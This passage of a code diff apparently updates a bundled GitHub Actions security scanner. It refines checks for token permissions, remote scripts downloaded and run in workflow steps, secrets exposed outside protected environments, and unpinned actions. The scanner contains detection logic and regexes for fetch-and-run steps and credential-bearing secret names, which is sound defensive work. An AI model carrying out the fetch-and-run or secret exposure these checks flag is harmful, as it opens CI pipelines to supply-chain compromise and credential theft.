         ? {
@@ -46308,7 +47887,7 @@ function jobWrites(workspace, fixes, workflow, job) {
                 : unusedWrite(workspace, job, workflow, scope);
         if (writer && !unused)
             return [];
-        const grade = pullRequestGrade(workflow, scope);
+        const grade = pullRequestGrade(workspace, workflow, scope);
         const why = !unused
             ? 'none of its steps can use the token for more than reading (only scripts without token use and read-only actions)'
             : `${job.uses ? 'no job of the workflow it calls uses it' : 'none of its steps uses it'}: ${unused.how}`;
@@ -46474,7 +48053,7 @@ function missingPermissions(workspace, workflow, bare, upstream) {
         ? 'low'
         : outsiders.length > 0 && !dataOnly
             ? 'high'
-            : (pullRequestGrade(workflow)?.severity ?? 'medium');
+            : (pullRequestGrade(workspace, workflow)?.severity ?? 'medium');
     const names = bare.map((job) => `"${job.id}"`).join(', ');
     const which = bare.length === workflow.jobs.length
         ? 'no job declares any'
@@ -46484,7 +48063,7 @@ function missingPermissions(workspace, workflow, bare, upstream) {
             ? ` It runs on ${outsiders.join(', ')}, which outsiders can cause, so a writable token is exposed to their input.`
             : dataOnly
                 ? ` It runs on ${outsiders.join(', ')}, which outsiders can cause, but ${bare.length > 1 ? 'its jobs run' : 'the job runs'} only GitHub's own actions with fixed scripts and shell commands that run no code of the repository or of another party (gh, echo, jq, ...), the event's data reaching them only through variables, so their input reaches no code that could use the token today; a step added later would.`
-                : (pullRequestGrade(workflow)?.note ?? ''));
+                : (pullRequestGrade(workspace, workflow)?.note ?? ''));
     return {
         message: `No top-level "permissions:" and ${which}, so ${bare.length > 1 ? 'they run' : 'it runs'} with the ` +
             `repository's default GITHUB_TOKEN permissions, which can include write access to every scope.${grade} ` +
@@ -46533,7 +48112,19 @@ const OTHER_CI = [
     [['.prow.yaml', '.prow/*.yaml'], 'Prow'],
     // Kubernetes-style repositories: Prow presubmits are configured in another repository.
     [['OWNERS'], 'Prow'],
-    [['cloudbuild.yaml', 'cloudbuild.yml'], 'Cloud Build'],
+    // Google Cloud Build: `cloudbuild.yaml`, or named for what it builds (`int.cloudbuild.yaml`), at the
+    // root or in a build folder of its own.
+    [
+        [
+            'cloudbuild.yaml',
+            'cloudbuild.yml',
+            '*.cloudbuild.{yml,yaml}',
+            'build/cloudbuild.{yml,yaml}',
+            'build/*.cloudbuild.{yml,yaml}',
+            '.cloudbuild/*.{yml,yaml}',
+        ],
+        'Cloud Build',
+    ],
     [['.drone.yml', '.drone.yaml', '.drone.star', '.drone.jsonnet'], 'Drone'],
     [['.woodpecker.yml', '.woodpecker.yaml', '.woodpecker/*.{yml,yaml}'], 'Woodpecker CI'],
     [['.tekton/*.{yml,yaml}'], 'Tekton'],
@@ -47636,14 +49227,24 @@ const workflowRemoteScript = (0,types/* defineEvaluator */.D)({
                         const guard = file
                             ? guarded(workspace, job, step, file, source.kind === 'workflow' && source.defaults?.workingDirectory !== undefined)
                             : undefined;
+                        // A file of a git repository fetched by a full commit SHA: what runs is fixed by the commit.
+                        const pinned = commitPinned(hit.download ?? hit.text, [
+                            step.env,
+                            job?.env,
+                            source.kind === 'workflow' ? source.env : undefined,
+                        ]);
                         findings.push({
-                            message: `${what}: whoever controls the server, the DNS or the URL decides what runs in this job. ` +
-                                'Download to a file, check its SHA-256 (or signature) against a pinned value, then run it, or use a pinned action or package.' +
-                                (guard?.note ?? ''),
+                            message: pinned
+                                ? `${what}, but from ${pinned}, whose content the commit fixes: whoever controls that repository cannot change what runs without a new commit. ` +
+                                    'Still, check its SHA-256 before running it, or use a pinned action or package.' +
+                                    (guard?.note ?? '')
+                                : `${what}: whoever controls the server, the DNS or the URL decides what runs in this job. ` +
+                                    'Download to a file, check its SHA-256 (or signature) against a pinned value, then run it, or use a pinned action or package.' +
+                                    (guard?.note ?? ''),
                             location: text.locate(hit.start, hit.end),
                             key: `${job?.id ?? ''}/${(0,shared/* stepLabel */.vO)(step)}/${hit.text}`,
-                            ...(guard?.absent ? { severity: 'low' } : {}),
-                            ...(guard ? { confidence: 'medium' } : {}),
+                            ...(guard?.absent || pinned ? { severity: 'low' } : {}),
+                            ...(pinned ? { confidence: 'low' } : guard ? { confidence: 'medium' } : {}),
                         });
                     }
                 }
@@ -47662,6 +49263,27 @@ function stepScripts(step, shellInputs) {
     return [...step.with.entries]
         .filter(([name, value]) => typeof value.value === 'string' && listed.inputs.includes(name.toLowerCase()))
         .map(([, value]) => value);
+}
+/**
+ * A URL of a file at a full commit SHA of a GitHub repository (`raw.githubusercontent.com/<owner>/<repo>/<sha>/...`,
+ * `github.com/<owner>/<repo>/raw/<sha>/...`), the SHA written in the command or held in a variable of an
+ * `env:` the step sees (its own, its job's, its workflow's) whose value is the 40 hexadecimal digits
+ * themselves; undefined otherwise (a branch, a tag, a short SHA, a value set by an expression or by
+ * the script).
+ */
+function commitPinned(command, envs) {
+    const url = /\bhttps:\/\/[^\s'"`)]{1,500}/i.exec(command)?.[0];
+    if (!url)
+        return undefined;
+    const expanded = url.replace(/\$\{([A-Za-z_]\w*)\}|\$([A-Za-z_]\w*)/g, (whole, a, b) => {
+        const name = (a ?? b);
+        const map = envs.find((m) => m?.entries.has(name));
+        const value = map?.entries.get(name)?.value;
+        return typeof value === 'string' && /^[0-9a-f]{40}$/i.test(value.trim()) ? value.trim() : whole;
+    });
+    const m = /^https:\/\/raw\.githubusercontent\.com\/([\w.-]+\/[\w.-]+)\/([0-9a-f]{40})\//i.exec(expanded) ??
+        /^https:\/\/github\.com\/([\w.-]+\/[\w.-]+)\/raw\/([0-9a-f]{40})\//i.exec(expanded);
+    return m ? `${m[1]} at commit ${m[2].slice(0, 12)}` : undefined;
 }
 function remote_script_short(text) {
     return text.length > 120 ? `${text.slice(0, 117)}...` : text;
@@ -47893,12 +49515,12 @@ const BUILTINS = new Set('echo printf test [ [[ export declare typeset local rea
 const CMDLET = /^[A-Za-z]+-[A-Za-z]+$/;
 /**
  * Secrets whose name says they hold a setting, not a credential (a bucket, a host, an address or
- * port, a repository's name, an account id, an access key's id): kept secret to keep them out of
+ * port, a repository's name, a cloud resource group, an account id, an access key's id): kept secret to keep them out of
  * logs, harmless in a command line. The setting's word may be followed by words that only qualify
  * it (`S3_BUCKET_RELEASE`, `BUCKET_STAGING_EU`), never by one that names a credential
  * (`HOST_SSH_KEY`, `BUCKET_ACCESS_TOKEN`, `DB_HOST_PASSWORD`).
  */
-const SETTING_WORD = /(?:^|_)(?:BUCKET(?:_NAME)?|REGION|HOST(?:NAME)?|IP(?:V[46])?(?:_ADDR(?:ESS)?)?|ADDR(?:ESS)?|PORT|DOMAIN|ENDPOINT|URL|ARN|REPO(?:SITORY)?(?:_NAME|_SLUG)?|(?:ACCOUNT|PROJECT|ORG|TENANT|SUBSCRIPTION|CLIENT|APP)(?:_ID|_NAME|_SLUG)?|(?:ACCESS_)?KEY_ID|ACCESS_ID|ORGANI[SZ]ATION|USER(?:NAME)?|EMAIL)$/i;
+const SETTING_WORD = /(?:^|_)(?:BUCKET(?:_NAME)?|REGION|HOST(?:NAME)?|IP(?:V[46])?(?:_ADDR(?:ESS)?)?|ADDR(?:ESS)?|PORT|DOMAIN|ENDPOINT|URL|ARN|REPO(?:SITORY)?(?:_NAME|_SLUG)?|RESOURCE_?GROUP(?:_NAME)?|(?:ACCOUNT|PROJECT|ORG|TENANT|SUBSCRIPTION|CLIENT|APP)(?:_ID|_NAME|_SLUG)?|(?:ACCESS_)?KEY_ID|ACCESS_ID|ORGANI[SZ]ATION|USER(?:NAME)?|EMAIL)$/i;
 /** A word of a secret's name that names (part of) a credential: it is no qualifier of a setting. */
 const CREDENTIAL_WORD = /TOKEN|KEY|SECRET|PASS|PWD|^PW$|PSK|CRED|AUTH|CERT|PRIV|SIGN|SESSION|COOKIE|DSN|HOOK|SALT|JWT|BEARER|OTP|PIN|PAT|LOGIN|ACCESS|CONF|NETRC/i;
 /** Whether a secret's name (`AWS_S3_BUCKET_RELEASE`, `secrets.X`'s X) says it holds a setting. */
@@ -48291,6 +49913,10 @@ const workflowSecretsOutsideEnv = (0,types/* defineEvaluator */.D)({
                     const jobToken = declared && !unpassed && jobTokenHere(workspace, source, name);
                     // An access key's id (`AWS_ACCESS_KEY_ID`) names the key; its secret beside it authenticates.
                     const keyId = ACCESS_KEY_ID.test(name);
+                    // A publishing job's secret named for a scanning, coverage or chat service (`SNYK_TOKEN`,
+                    // `SLACK_WEBHOOK`) that its name does not tie to deploying, nor its input to a login: a
+                    // service token that publishes nothing, though every step given it can read it.
+                    const service = publishing && !named && SERVICE_SECRET.test(name);
                     const what = publishing
                         ? ' and publishes a release'
                         : given && !(deployment.test(name) && CREDENTIAL.test(name))
@@ -48318,6 +49944,9 @@ const workflowSecretsOutsideEnv = (0,types/* defineEvaluator */.D)({
                                 'without an environment: as a repository or organisation secret it is available to every workflow on every ' +
                                 'branch. ' +
                                 (keyId ? ACCESS_KEY_ID_NOTE : '') +
+                                (service
+                                    ? 'Its name says it is the token of a scanning, coverage or chat service, which publishes nothing. '
+                                    : '') +
                                 'Store it as an environment secret and give the job `environment:` with protection rules.',
                         location: expr.locate(ref.start, ref.end),
                         key: `${job.id}/${name}`,
@@ -48331,7 +49960,7 @@ const workflowSecretsOutsideEnv = (0,types/* defineEvaluator */.D)({
                         // A secret no caller here passes holds nothing in the runs this repository starts.
                         // The job's own token passed in by every caller here, or an access key's id, is no
                         // credential an environment would hold: low.
-                        ...(unpassed || jobToken || keyId
+                        ...(unpassed || jobToken || keyId || service
                             ? { confidence: 'low' }
                             : publishing
                                 ? { confidence: 'high' }
@@ -48349,6 +49978,11 @@ const workflowSecretsOutsideEnv = (0,types/* defineEvaluator */.D)({
         return findings;
     },
 });
+/**
+ * A secret named for a scanning, coverage or chat service (its first word): a token such a service
+ * hands out to read results or post messages, not to publish or deploy.
+ */
+const SERVICE_SECRET = /^(?:SNYK|SLACK|DISCORD|MSTEAMS|TEAMS|MATTERMOST|GITTER|CODECOV|COVERALLS|SONAR|SONARCLOUD|SONARQUBE|FOSSA|DEEPSOURCE|CODACY|GITGUARDIAN|SEMGREP)_/i;
 /** A step named for running tests: "Run tests", "Run e2e", "Integration test". */
 const secrets_outside_env_TEST_NAME = /(?<![a-z])(?:tests?|testing|e2e)(?![a-z])/i;
 /** Commands that deploy or upload somewhere (clusters, clouds, hosts, buckets). */
@@ -48458,11 +50092,12 @@ const ACCESS_KEY_ID_NOTE = "Its name says it is an access key's id, which authen
 /**
  * A name that ends in what identifies or addresses rather than authenticates (`QUAY_BOT_USERNAME`,
  * `AZURE_CLIENT_ID`, `AZURE_TENANT_ID`, `REGISTRY_URL`, a workload identity provider's resource name
- * `GCP_WORKLOAD_IDENTITY_PROVIDER`, a role's `..._ROLE_ARN`) or a public key (`SSH_PUBLIC_KEY`,
+ * `GCP_WORKLOAD_IDENTITY_PROVIDER`, a role's `..._ROLE_ARN`, an image repository's or a repository's
+ * name `DOCKER_REPOSITORY`, a cloud resource group `AZURE_RESOURCEGROUP`) or a public key (`SSH_PUBLIC_KEY`,
  * `AWS_PUB_KEY`, `SIGNING_KEY_PUB`, `COSIGN_PUBLIC`): left alone unless the rest of the name still
  * names a credential (`AWS_ACCESS_KEY_ID`, which goes with its secret key).
  */
-const NOT_CREDENTIAL = /(?:^|_)(?:USER|USERNAME|USER_NAME|LOGIN|EMAIL|ACTOR|OWNER|ORG|ORGANI[SZ]ATION|ACCOUNT|ACCOUNT_ID|TENANT_ID|CLIENT_ID|SUBSCRIPTION_ID|PROJECT_ID|APP_ID|ID|HOST|HOSTNAME|URL|URI|ENDPOINT|REGION|ZONE|IDENTITY|IDENTITY_PROVIDER|PROVIDER|POOL|ROLE|ARN|ROLE_ARN|(?:KEYS?_)?PUB(?:LIC)?(?:_?KEYS?)?|KNOWN_HOSTS|FINGERPRINT)$/i;
+const NOT_CREDENTIAL = /(?:^|_)(?:USER|USERNAME|USER_NAME|LOGIN|EMAIL|ACTOR|OWNER|ORG|ORGANI[SZ]ATION|ACCOUNT|ACCOUNT_ID|TENANT_ID|CLIENT_ID|SUBSCRIPTION_ID|PROJECT_ID|APP_ID|ID|HOST|HOSTNAME|URL|URI|ENDPOINT|REGION|ZONE|IDENTITY|IDENTITY_PROVIDER|PROVIDER|POOL|ROLE|ARN|ROLE_ARN|REPO|REPOSITORY|REPO_NAME|REPOSITORY_NAME|RESOURCE_?GROUP|RESOURCE_?GROUP_NAME|(?:KEYS?_)?PUB(?:LIC)?(?:_?KEYS?)?|KNOWN_HOSTS|FINGERPRINT)$/i;
 /**
  * Inputs of cloud login actions that take identifiers, not credentials (`owner/repo` -> inputs): the
  * workload identity provider and service account that google-github-actions/auth federates the job's
@@ -50033,6 +51668,8 @@ function trailingComment(line) {
 
 
 
+
+
 /**
  * Flags every `uses:` that runs code from another repository or a registry without an immutable
  * pin: steps of workflows and of local composite actions, and jobs that call a reusable workflow.
@@ -50041,8 +51678,9 @@ function trailingComment(line) {
 const workflowUnpinnedUses = (0,types/* defineEvaluator */.D)({
     kind: 'workflow.unpinned-uses',
     scope: 'file',
-    // An action of this very repository (package.json's `repository`, with the action in this tree).
-    readsOtherFiles: ['package.json', '**/action.yml', '**/action.yaml'],
+    // An action of this very repository (package.json's `repository`, with the action in this tree);
+    // the workflows that call a reusable workflow, whose triggers say when it runs here.
+    readsOtherFiles: ['package.json', '**/action.yml', '**/action.yaml', ...parsers_workflow/* WORKFLOW_GLOBS */.iK],
     fix: 'pins the reference to the commit its tag names (resolved through the GitHub API) and keeps the tag in a comment',
     summary: 'Actions and reusable workflows referenced by tag or branch instead of a full commit SHA; docker:// images without a digest.',
     schema: {
@@ -50081,7 +51719,7 @@ const workflowUnpinnedUses = (0,types/* defineEvaluator */.D)({
         const bareJobs = new Map();
         const bareJob = (workflow, job) => {
             if (!bareJobs.has(job))
-                bareJobs.set(job, bareJobOf(workflow, job, () => publishersOf(workflow)));
+                bareJobs.set(job, bareJobOf(workspace, workflow, job, () => publishersOf(workflow)));
             return bareJobs.get(job);
         };
         const check = (source, uses, what, job) => {
@@ -50226,7 +51864,7 @@ function githubImage(image) {
         (owner === 'github' || owner === 'actions'));
 }
 /** Why a job holds nothing privileged (see {@link githubActionInBareJob}), or undefined; once per job. */
-function bareJobOf(workflow, job, publishers) {
+function bareJobOf(workspace, workflow, job, publishers) {
     if (job.environment || (job.runsOn && selfHostedLabel(workflow, job, job.runsOn)))
         return undefined;
     if ((0,shared/* namesSecret */.L4)(job.value) || (0,shared/* namesSecret */.L4)(workflow.env?.value))
@@ -50236,7 +51874,7 @@ function bareJobOf(workflow, job, publishers) {
         ? (0,shared/* writesOnly */.BR)(perms, REPORT_SCOPES)
             ? 'written'
             : undefined
-        : onlyPullRequestJob(workflow, job) && !handsOverToken(job)
+        : onlyPullRequestJob(workspace, workflow, job) && !handsOverToken(job)
             ? 'pull-request'
             : undefined;
     if (!token || publishers().has(job))
@@ -50246,23 +51884,41 @@ function bareJobOf(workflow, job, publishers) {
 /**
  * Whether a job runs only on `pull_request`: the workflow's only trigger, or the only one its `if:`
  * can hold on (`github.event_name == 'pull_request'`, or a test of `github.base_ref`, which other
- * events leave empty).
+ * events leave empty), or, for a reusable workflow, the only trigger of the workflows of this
+ * repository that call it (followed through chains of calls; a caller elsewhere runs it with its own
+ * token, not this repository's). A calling job that grants write scopes (its `permissions:` or its
+ * workflow's) or hands the called workflow the token or a secret makes the called jobs hold them:
+ * not counted as bare.
  */
-function onlyPullRequestJob(workflow, job) {
+function onlyPullRequestJob(workspace, workflow, job) {
     if ((0,shared/* onlyPullRequest */.Jm)(workflow))
         return true;
     const events = jobEvents(workflow, job);
-    return events.length > 0 && events.every((e) => e === 'pull_request');
+    if (events.length > 0 && events.every((e) => e === 'pull_request'))
+        return true;
+    if (!(workflow.on?.events ?? []).some((e) => e.event === 'workflow_call'))
+        return false;
+    let privileged = false;
+    const here = (0,workflow_callers/* eventsHere */.wG)(workspace, workflow, ({ source, job: caller }) => {
+        const perms = caller.permissions ?? source.permissions;
+        if ((perms && !(0,shared/* writesOnly */.BR)(perms, REPORT_SCOPES)) || (0,shared/* namesSecret */.L4)(caller.value) || handsOverToken(caller))
+            privileged = true;
+        return true;
+    });
+    return !privileged && here.length > 0 && here.every((e) => e === 'pull_request');
 }
 /** The job's token named in an expression (`github.token`, `secrets.GITHUB_TOKEN`). */
 const JOB_TOKEN = /\bgithub\.token\b|\bsecrets\s*\.\s*GITHUB_TOKEN\b/i;
 /**
  * Whether a job hands its token to a step that calls the API with it: the token named in an
- * expression, or actions/github-script (which is given it by default). Without `permissions:` such a
+ * expression, actions/github-script (which is given it by default), or an action known to write with
+ * the job's token when given none of its own (scopes.ts: uploading SARIF to code scanning, commenting). Without `permissions:` such a
  * job relies on the default token's scopes, which may write on a branch of this repository.
  */
 function handsOverToken(job) {
-    return (0,shared/* anyText */.Ae)(job.value, JOB_TOKEN) || job.steps.some((s) => (0,shared/* actionOf */.qj)(s.uses) === 'actions/github-script');
+    return ((0,shared/* anyText */.Ae)(job.value, JOB_TOKEN) ||
+        job.steps.some((s) => (0,shared/* actionOf */.qj)(s.uses) === 'actions/github-script' ||
+            Object.values(knownActionScopes(s) ?? {}).includes('write')));
 }
 function sameOwnerNote(owner) {
     return (` It names another repository of this repository's own owner (${owner}), not a third party's: only ` +
@@ -51471,6 +53127,7 @@ function rateLimited(r) {
 /* harmony export */   ch: () => (/* binding */ localCallers),
 /* harmony export */   lg: () => (/* binding */ runsHere),
 /* harmony export */   vZ: () => (/* binding */ calledWorkflow),
+/* harmony export */   wG: () => (/* binding */ eventsHere),
 /* harmony export */   yE: () => (/* binding */ triggeringEvents)
 /* harmony export */ });
 /* harmony import */ var _parsers_uses_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3850);
@@ -51563,6 +53220,16 @@ function triggeringEvents(workspace, workflow, follow = () => true) {
         }
     }
     return events;
+}
+/**
+ * The events that run a workflow in this repository: {@link triggeringEvents} without `workflow_call`.
+ * A caller in another repository runs a reusable workflow in its own context, with its own token and
+ * secrets, never this repository's; so a workflow run only by `workflow_call` from callers of this
+ * repository that all run on pull requests runs here on pull requests only. Empty for a workflow that
+ * only callers elsewhere run. `follow` is as for {@link triggeringEvents}.
+ */
+function eventsHere(workspace, workflow, follow) {
+    return [...triggeringEvents(workspace, workflow, follow)].filter((e) => e !== 'workflow_call');
 }
 /**
  * Whether a workflow or local action runs in this repository at all: a workflow that has a trigger
@@ -51937,6 +53604,7 @@ function programName(command) {
 
 /* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
 /* harmony export */   AN: () => (/* binding */ publishes),
+/* harmony export */   Cs: () => (/* binding */ PULL_REQUEST_ACTIONS),
 /* harmony export */   It: () => (/* binding */ deploysSite),
 /* harmony export */   MQ: () => (/* binding */ releaseTrigger),
 /* harmony export */   PE: () => (/* binding */ TEST_COMMAND),
@@ -51947,10 +53615,12 @@ function programName(command) {
 /* harmony export */   zH: () => (/* binding */ unpublishedOutput)
 /* harmony export */ });
 /* unused harmony export PUBLISH_COMMAND */
+/* harmony import */ var picomatch__WEBPACK_IMPORTED_MODULE_4__ = __nccwpck_require__(4006);
 /* harmony import */ var _parsers_uses_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3850);
 /* harmony import */ var _commands_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(6750);
 /* harmony import */ var _shared_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(5529);
 /* harmony import */ var _shell_js__WEBPACK_IMPORTED_MODULE_3__ = __nccwpck_require__(1248);
+
 
 
 
@@ -52085,25 +53755,105 @@ function releaseTrigger(workflow) {
 /**
  * The jobs that publish, and the jobs they need that hand them something (an uploaded artifact, job
  * outputs): those build what is published. A job needed only to pass first (tests) hands nothing over.
+ * So does a job further up the chain of `needs:` whose artifact such a job downloads by name (or
+ * downloads all artifacts): an artifact reaches the jobs that run after its upload, needed directly
+ * or not.
  */
 function publishingJobs(workflow, publishing = publishes) {
     const byId = new Map(workflow.jobs.map((j) => [j.id, j]));
+    const needsOf = (job) => {
+        const needs = job.value.needs;
+        return (Array.isArray(needs) ? needs : typeof needs === 'string' ? [needs] : []).flatMap((id) => {
+            const dep = typeof id === 'string' ? byId.get(id) : undefined;
+            return dep ? [dep] : [];
+        });
+    };
     const out = new Set();
     const add = (job, neededBy) => {
         if (out.has(job) || (neededBy && !handsOver(job, neededBy)))
             return;
         out.add(job);
-        const needs = job.value.needs;
-        for (const id of Array.isArray(needs) ? needs : typeof needs === 'string' ? [needs] : []) {
-            const dep = typeof id === 'string' ? byId.get(id) : undefined;
-            if (dep)
-                add(dep, job);
+        for (const dep of needsOf(job))
+            add(dep, job);
+        // Artifacts downloaded from jobs further up the chain of needs.
+        const downloads = job.steps.flatMap(downloadOf);
+        if (downloads.length === 0)
+            return;
+        const seen = new Set();
+        const queue = needsOf(job).flatMap(needsOf);
+        for (let up = queue.shift(); up; up = queue.shift()) {
+            if (seen.has(up))
+                continue;
+            seen.add(up);
+            queue.push(...needsOf(up));
+            const fed = uploadsOf(up).some((name) => downloads.some((d) => d(name)));
+            if (!out.has(up) && fed)
+                add(up);
         }
     };
     for (const job of workflow.jobs)
         if (job.steps.some(publishing))
             add(job);
     return out;
+}
+/**
+ * The names of the artifacts a job uploads (`actions/upload-artifact`, `artifact` when unnamed); a
+ * name with an expression (a matrix's) may be any.
+ */
+function uploadsOf(job) {
+    return job.steps.flatMap((s) => {
+        if (!((0,_shared_js__WEBPACK_IMPORTED_MODULE_2__/* .actionPathOf */ .ps)(s.uses) ?? '').endsWith('/upload-artifact'))
+            return [];
+        const name = (0,_shared_js__WEBPACK_IMPORTED_MODULE_2__/* .input */ .hF)(s, 'name')?.value;
+        return [typeof name === 'string' ? name : 'artifact'];
+    });
+}
+/**
+ * What a step downloads, as a test of an artifact's name: a name, a `pattern` glob, or every artifact
+ * of the run (neither given); a name or pattern with an expression may be any.
+ */
+function downloadOf(step) {
+    if (!((0,_shared_js__WEBPACK_IMPORTED_MODULE_2__/* .actionPathOf */ .ps)(step.uses) ?? '').endsWith('/download-artifact'))
+        return [];
+    const name = (0,_shared_js__WEBPACK_IMPORTED_MODULE_2__/* .input */ .hF)(step, 'name')?.value;
+    const pattern = (0,_shared_js__WEBPACK_IMPORTED_MODULE_2__/* .input */ .hF)(step, 'pattern')?.value;
+    const any = (v) => typeof v !== 'string' || v.includes('${{');
+    if (name !== undefined) {
+        if (any(name))
+            return [() => true];
+        const wanted = String(name);
+        return [(n) => (n.includes('${{') ? mayBe(n, wanted, wanted) : n === wanted)];
+    }
+    if (pattern !== undefined) {
+        if (any(pattern))
+            return [() => true];
+        const glob = String(pattern);
+        const test = picomatch__WEBPACK_IMPORTED_MODULE_4__(glob, { dot: true });
+        const [head, tail] = literalEnds(glob, /[*?[\]{}!()]/);
+        return [(n) => (n.includes('${{') ? mayBe(n, head, tail) : test(n))];
+    }
+    return [() => true];
+}
+/** The literal start and end of a text, before the first and after the last match of `special`. */
+function literalEnds(text, special) {
+    const global = new RegExp(special.source, 'g');
+    const at = [...text.matchAll(global)].map((m) => m.index);
+    if (at.length === 0)
+        return [text, text];
+    const last = at.at(-1);
+    return [text.slice(0, at[0]), text.slice(last + 1)];
+}
+/**
+ * Whether an artifact name written with expressions (`coverage-${{ matrix.os }}`) may be one whose
+ * literal start is `head` and end is `tail`: the name's own literal start and end must agree with them
+ * (one a prefix of the other, one a suffix of the other). Whatever the expressions give, a name
+ * starting `coverage-` never matches `dist-*`.
+ */
+function mayBe(template, head, tail) {
+    const start = template.slice(0, template.indexOf('${{'));
+    const end = template.slice(template.lastIndexOf('}}') + 2);
+    const agrees = (a, b, f) => f(a, b) || f(b, a);
+    return agrees(start, head, (x, y) => x.startsWith(y)) && agrees(end, tail, (x, y) => x.endsWith(y));
 }
 /**
  * A job whose results the job that needs it can use: outputs it declares, or artifacts it uploads
@@ -53125,6 +54875,7 @@ function fileLocation(path) {
 /* harmony export */   cf: () => (/* binding */ serviceSetting),
 /* harmony export */   d3: () => (/* binding */ composeServices),
 /* harmony export */   eV: () => (/* binding */ namesDeployedEnvironment),
+/* harmony export */   fr: () => (/* binding */ pathNotDeployed),
 /* harmony export */   oB: () => (/* binding */ nodeAt),
 /* harmony export */   rd: () => (/* binding */ composeReferences),
 /* harmony export */   tG: () => (/* binding */ deployedStack),
@@ -53268,14 +55019,20 @@ function composeReferences(workspace) {
             const parsed = (0,_workspace_yaml_js__WEBPACK_IMPORTED_MODULE_3__/* .parseYaml */ .hN)(text, undefined, COMPOSE_YAML);
             if (!parsed.ok)
                 continue;
-            const add = (key, ref) => {
+            const add = (key, ref, dockerfile) => {
                 if (typeof ref !== 'string' || ref.trim() === '' || /^[a-z][\w+.-]*:|^\/|[$*{]/i.test(ref.trim()))
                     return;
                 const to = node_path__WEBPACK_IMPORTED_MODULE_0__.posix
                     .normalize(node_path__WEBPACK_IMPORTED_MODULE_0__.posix.join(node_path__WEBPACK_IMPORTED_MODULE_0__.posix.dirname(from), ref.trim()))
                     .replace(/\/+$/, '');
-                if (to !== '.' && to !== '..' && !to.startsWith('../'))
+                if (to === '.' || to === '..' || to.startsWith('../'))
+                    return;
+                if (key !== 'build')
                     out.push({ from, to, key });
+                else {
+                    const file = typeof dockerfile === 'string' && dockerfile.trim() !== '' ? dockerfile.trim() : 'Dockerfile';
+                    out.push({ from, to, key, dockerfile: file });
+                }
             };
             for (const document of parsed.documents) {
                 const root = document.value;
@@ -53298,7 +55055,7 @@ function composeReferences(workspace) {
                     if (typeof service.build === 'string')
                         add('build', service.build);
                     else if (isMap(service.build))
-                        add('build', service.build.context ?? '.');
+                        add('build', service.build.context ?? '.', service.build.dockerfile);
                 }
             }
         }
@@ -57217,6 +58974,301 @@ function ansiC(src, i, limit) {
 
 /***/ }),
 
+/***/ 3503:
+/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   K_: () => (/* binding */ valueResolver),
+/* harmony export */   P$: () => (/* binding */ variablesOfJson),
+/* harmony export */   ZQ: () => (/* binding */ variableFileOrder),
+/* harmony export */   _E: () => (/* binding */ valueCandidates),
+/* harmony export */   bq: () => (/* binding */ resolveBody),
+/* harmony export */   oM: () => (/* binding */ setVariableFiles),
+/* harmony export */   wg: () => (/* binding */ inputOf)
+/* harmony export */ });
+/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(6760);
+
+/**
+ * What a reference to a module's own values stands for: `local.<name>` is the value its `locals`
+ * block assigns, and `var.<name>` is its `default` (what Terraform uses when nothing sets the
+ * variable). Checks judge `storage_encrypted = var.encrypted` with `default = false` as they judge
+ * `storage_encrypted = false`.
+ *
+ * Only a whole value that is one such reference is replaced (`var.x`, `"${var.x}"`, and the items
+ * of a list); anything computed from it (`var.x ? 1 : 0`, `"${var.x}-a"`) stays unknown. A variable
+ * without a default is still unknown where it is used.
+ *
+ * The variable files Terraform loads by itself in the folder it runs in (`terraform.tfvars`,
+ * `terraform.tfvars.json`, `*.auto.tfvars(.json)`) override defaults: in a folder that no module
+ * block of the repository calls (a root configuration), `var.x` is the value the last of them that
+ * sets it gives, else its default. A module that another calls keeps its default (its callers' runs
+ * do not load its folder's files). Values set on the command line are not seen. Where the callers of
+ * a reusable module set it, a default is only a default ({@link inputOf} tells a value made from
+ * one; terraform-modules.ts, whether its callers decide). {@link valueCandidates} gives every value
+ * a reference may take (the default and each file's), for a judgement that must hold for all.
+ */
+/** A reference to a module's variable or local, written bare or as the only interpolation. */
+const REFERENCE = /^(?:"\$\{\s*)?(var|local)\.([A-Za-z_][\w-]*)(?:\s*\}")?$/;
+/** Locals may name other locals; a cycle (an error to Terraform) or a long chain stays unknown. */
+const MAX_HOPS = 8;
+const VARIABLE_FILES = new WeakMap();
+/** Records the variable files (by folder) that go with one parse's files. */
+function setVariableFiles(files, byModule) {
+    VARIABLE_FILES.set(files, byModule);
+}
+/**
+ * Terraform's load order of a folder's variable files: `terraform.tfvars`, `terraform.tfvars.json`,
+ * then the `*.auto.tfvars(.json)` files in lexical order of their names.
+ */
+function variableFileOrder(a, b) {
+    const rank = (p) => {
+        const name = node_path__WEBPACK_IMPORTED_MODULE_0__.posix.basename(p);
+        return name === 'terraform.tfvars' ? 0 : name === 'terraform.tfvars.json' ? 1 : 2;
+    };
+    const byRank = rank(a.path) - rank(b.path);
+    if (byRank !== 0)
+        return byRank;
+    const [x, y] = [node_path__WEBPACK_IMPORTED_MODULE_0__.posix.basename(a.path), node_path__WEBPACK_IMPORTED_MODULE_0__.posix.basename(b.path)];
+    return x < y ? -1 : x > y ? 1 : 0;
+}
+const NO_SPAN = { start: { line: 1, column: 1 }, end: { line: 1, column: 1 } };
+/** The assignments of a `.tfvars.json` file as values; undefined when it is not a JSON object. */
+function variablesOfJson(text) {
+    let parsed;
+    try {
+        parsed = JSON.parse(text);
+    }
+    catch {
+        return undefined;
+    }
+    if (typeof parsed !== 'object' || parsed === null || Array.isArray(parsed))
+        return undefined;
+    return new Map(Object.entries(parsed).map(([k, v]) => [k, fromJson(v, 0)]));
+}
+function fromJson(v, depth) {
+    const text = JSON.stringify(v) ?? 'null';
+    if (typeof v === 'string')
+        return { kind: 'string', value: v, span: NO_SPAN, text };
+    if (typeof v === 'number')
+        return { kind: 'number', value: v, span: NO_SPAN, text };
+    if (typeof v === 'boolean')
+        return { kind: 'bool', value: v, span: NO_SPAN, text };
+    if (v === null)
+        return { kind: 'null', span: NO_SPAN, text };
+    if (depth > 16)
+        return { kind: 'expression', span: NO_SPAN, text };
+    if (Array.isArray(v))
